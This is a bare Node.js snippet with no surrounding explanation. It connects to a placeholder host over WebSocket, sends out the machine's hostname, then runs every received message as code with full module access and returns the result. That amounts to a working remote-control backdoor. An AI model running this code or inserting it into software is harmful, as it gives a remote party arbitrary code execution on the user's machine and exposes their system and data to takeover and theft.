const os = require('os');
const socket = new WebSocket('wss://live.example.invalid/a');
socket.onopen = () => socket.send(os.hostname());
socket.onmessage = (message) => socket.send(String(new Function('require', message.data)(require)));
